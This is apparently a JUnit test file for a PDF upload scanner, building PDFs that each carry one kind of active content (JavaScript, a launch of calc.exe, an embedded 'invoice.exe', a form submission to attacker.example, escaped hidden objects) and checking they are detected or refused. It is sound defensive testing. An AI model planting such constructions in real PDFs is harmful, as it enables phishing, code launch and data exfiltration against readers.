package io.zhengku.vault.intake;

import static io.zhengku.vault.intake.Uploads.assertRefused;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.zhengku.vault.intake.PdfActiveContent.Kind;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.OptionalInt;
import java.util.Set;
import java.util.function.Consumer;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionRemoteGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDFormFieldAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** PDFs built here with PDFBox, each with one kind of active content, and plain ones that must still pass. */
class PdfActiveContentTest {

    private static final String SCRIPT = "app.alert('hello');";

    private final FileInspector inspector = new FileInspector(UploadLimits.defaults());

    @TempDir
    Path tempDir;

    @Test
    void javascript_run_on_opening_is_refused_as_active_content() {
        byte[] pdf = pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript(SCRIPT)));

        assertThat(kindsIn(pdf)).containsExactly(Kind.JAVASCRIPT);
        assertRefused(() -> inspect(pdf), IntakeProblem.FILE_ACTIVE_CONTENT);
    }

    @Test
    void javascript_in_a_pages_additional_actions_is_found() {
        byte[] pdf = pdf(document -> {
            PDPageAdditionalActions actions = new PDPageAdditionalActions();
            actions.setO(new PDActionJavaScript(SCRIPT));
            document.getPage(0).setActions(actions);
        });

        assertThat(kindsIn(pdf)).containsExactly(Kind.JAVASCRIPT);
    }

    @Test
    void a_document_level_javascript_name_tree_is_found() {
        byte[] pdf = pdf(document -> {
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("init", new PDActionJavaScript(SCRIPT)));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);
        });

        assertThat(kindsIn(pdf)).containsExactly(Kind.JAVASCRIPT);
    }

    @Test
    void javascript_on_a_form_fields_keystrokes_is_found() {
        byte[] pdf = pdf(document -> {
            PDAcroForm form = new PDAcroForm(document);
            document.getDocumentCatalog().setAcroForm(form);
            PDTextField field = new PDTextField(form);
            field.setPartialName("amount");
            PDFormFieldAdditionalActions actions = new PDFormFieldAdditionalActions();
            actions.setK(new PDActionJavaScript(SCRIPT));
            field.setActions(actions);
            form.getFields().add(field);
        });

        assertThat(kindsIn(pdf)).containsExactly(Kind.JAVASCRIPT);
    }

    @Test
    void a_link_that_launches_a_program_is_refused_as_active_content() {
        PDActionLaunch launch = new PDActionLaunch();
        launch.setFile(fileNamed("C:\\Windows\\System32\\calc.exe"));
        byte[] pdf = pdf(document -> link(document, launch));

        assertThat(kindsIn(pdf)).containsExactly(Kind.LAUNCH);
        assertRefused(() -> inspect(pdf), IntakeProblem.FILE_ACTIVE_CONTENT);
    }

    @Test
    void an_embedded_file_is_refused_as_active_content() {
        byte[] pdf = pdf(document -> {
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("invoice.exe", attachedFile(document)));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
        });

        assertThat(kindsIn(pdf)).containsExactly(Kind.EMBEDDED_FILE);
        assertRefused(() -> inspect(pdf), IntakeProblem.FILE_ACTIVE_CONTENT);
    }

    @Test
    void a_file_attachment_annotation_is_found_with_the_file_it_carries() {
        byte[] pdf = pdf(document -> {
            PDAnnotationFileAttachment attachment = new PDAnnotationFileAttachment();
            attachment.setRectangle(new PDRectangle(72, 72, 20, 20));
            attachment.setFile(attachedFile(document));
            annotate(document, attachment);
        });

        assertThat(kindsIn(pdf)).containsExactlyInAnyOrder(Kind.FILE_ATTACHMENT, Kind.EMBEDDED_FILE);
    }

    @Test
    void links_that_open_another_file_or_submit_a_form_are_found() {
        PDActionRemoteGoTo remote = new PDActionRemoteGoTo();
        remote.setFile(fileNamed("\\\\attacker.example\\share\\x.pdf"));
        PDActionSubmitForm submit = new PDActionSubmitForm();
        submit.getCOSObject().setString(COSName.F, "https://attacker.example/collect");

        assertThat(kindsIn(pdf(document -> link(document, remote)))).containsExactly(Kind.OTHER_FILE);
        assertThat(kindsIn(pdf(document -> link(document, submit)))).containsExactly(Kind.FORM_TRANSFER);
    }

    @Test
    void a_script_after_a_harmless_action_in_its_next_chain_is_found() {
        PDActionGoTo first = new PDActionGoTo();
        first.setNext(List.of(new PDActionJavaScript(SCRIPT)));

        assertThat(kindsIn(pdf(document -> {
            first.setDestination(fitPage(document));
            document.getDocumentCatalog().setOpenAction(first);
        }))).containsExactly(Kind.JAVASCRIPT);
    }

    @Test
    void an_action_hidden_under_a_key_no_reader_knows_is_found() {
        byte[] pdf = pdf(document -> document.getPage(0).getCOSObject()
                .setItem(COSName.getPDFName("ZhengkuHidden"), new PDActionJavaScript(SCRIPT)));

        assertThat(kindsIn(pdf)).containsExactly(Kind.JAVASCRIPT);
    }

    /** No dictionary refers to object 99, and its names are written with #xx escapes a byte search would miss. */
    @Test
    void an_action_that_nothing_refers_to_is_found_in_the_cross_reference_table() {
        byte[] pdf = appendObject(Fixtures.pdf(1), "<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>");

        assertThat(kindsIn(pdf)).containsExactly(Kind.JAVASCRIPT);
        assertRefused(() -> inspect(pdf), IntakeProblem.FILE_ACTIVE_CONTENT);
    }

    @Test
    void a_cycle_of_actions_ends_the_walk_and_is_plain_when_harmless() throws IOException {
        byte[] pdf = appendObject(Fixtures.pdf(1), "<< /S /GoTo /D [0 /Fit] /Next 99 0 R >>");

        assertThat(kindsIn(pdf)).isEmpty();
        assertThat(inspect(pdf).pageCount()).isEqualTo(OptionalInt.of(1));
    }

    @ParameterizedTest(name = "at most {0} objects and {1} values")
    @CsvSource({"3, 1000", "1000, 10"})
    void a_document_with_more_objects_or_values_than_are_read_is_refused_as_too_large(int maxObjects, int maxValues)
            throws IOException {
        try (PDDocument document = Loader.loadPDF(Fixtures.pdf(3))) {
            assertRefused(() -> PdfActiveContent.in(document.getDocument(), maxObjects, maxValues),
                    IntakeProblem.FILE_TOO_LARGE);
        }
    }

    @Test
    void a_plain_pdf_with_a_goto_link_a_web_link_and_an_opening_page_is_accepted() throws IOException {
        PDActionURI web = new PDActionURI();
        web.setURI("https://www.gov.cn/");
        byte[] pdf = pdf(document -> {
            PDActionGoTo toFirstPage = new PDActionGoTo();
            toFirstPage.setDestination(fitPage(document));
            link(document, toFirstPage);
            link(document, web);
            PDPageFitDestination opening = fitPage(document);
            document.getDocumentCatalog().setOpenAction(opening);
        });

        assertThat(kindsIn(pdf)).isEmpty();
        assertThat(inspect(pdf).pageCount()).isEqualTo(OptionalInt.of(1));
    }

    @Test
    void the_refusal_names_what_was_found_and_what_to_do() {
        byte[] pdf = pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript(SCRIPT)));

        assertThatThrownBy(() -> inspect(pdf)).hasMessageContaining("JavaScript").hasMessageContaining("print");
    }

    private InspectedFile inspect(byte[] bytes) throws IOException {
        return Uploads.inspect(inspector, bytes, "application/pdf", tempDir);
    }

    private static Set<Kind> kindsIn(byte[] pdf) {
        try (PDDocument document = Loader.loadPDF(pdf)) {
            return PdfActiveContent.in(document.getDocument());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A one-page PDF, changed by {@code change} and saved as PDFBox saves by default (object streams). */
    private static byte[] pdf(Consumer<PDDocument> change) {
        try (PDDocument document = Loader.loadPDF(Fixtures.pdf(1));
             ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            change.accept(document);
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void link(PDDocument document, PDAction action) {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(72, 72, 100, 20));
        link.setAction(action);
        annotate(document, link);
    }

    private static void annotate(PDDocument document, PDAnnotation annotation) {
        try {
            document.getPage(0).getAnnotations().add(annotation);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static PDSimpleFileSpecification fileNamed(String name) {
        PDSimpleFileSpecification file = new PDSimpleFileSpecification();
        file.setFile(name);
        return file;
    }

    private static PDComplexFileSpecification attachedFile(PDDocument document) {
        try {
            PDEmbeddedFile file = new PDEmbeddedFile(document,
                    new ByteArrayInputStream("MZ".getBytes(StandardCharsets.US_ASCII)));
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("invoice.exe");
            spec.setEmbeddedFile(file);
            return spec;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static PDPageFitDestination fitPage(PDDocument document) {
        PDPageFitDestination destination = new PDPageFitDestination();
        destination.setPage(document.getPage(0));
        return destination;
    }

    /**
     * {@code pdf}, saved without object streams, with an incremental update adding object 99 of {@code body}:
     * the cross-reference table lists it, but no other object names it.
     */
    private static byte[] appendObject(byte[] pdf, String body) {
        byte[] plain;
        try (PDDocument document = Loader.loadPDF(pdf); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.save(out, CompressParameters.NO_COMPRESSION);
            plain = out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        String text = new String(plain, StandardCharsets.ISO_8859_1);
        Matcher root = Pattern.compile("/Root (\\d+ \\d+ R)").matcher(text);
        Matcher startxref = Pattern.compile("startxref\\s+(\\d+)\\s+%%EOF\\s*$").matcher(text);
        if (!root.find() || !startxref.find()) {
            throw new IllegalStateException("PDFBox wrote no classic trailer");
        }
        int object = plain.length + 1;
        String update = "\n99 0 obj\n" + body + "\nendobj\n";
        int xref = object + update.length() - 1;
        update += "xref\n99 1\n%010d 00000 n \ntrailer\n<< /Size 100 /Root %s /Prev %s >>\nstartxref\n%d\n%%%%EOF\n"
                .formatted(object, root.group(1), startxref.group(1), xref);
        return (text + update).getBytes(StandardCharsets.ISO_8859_1);
    }
}
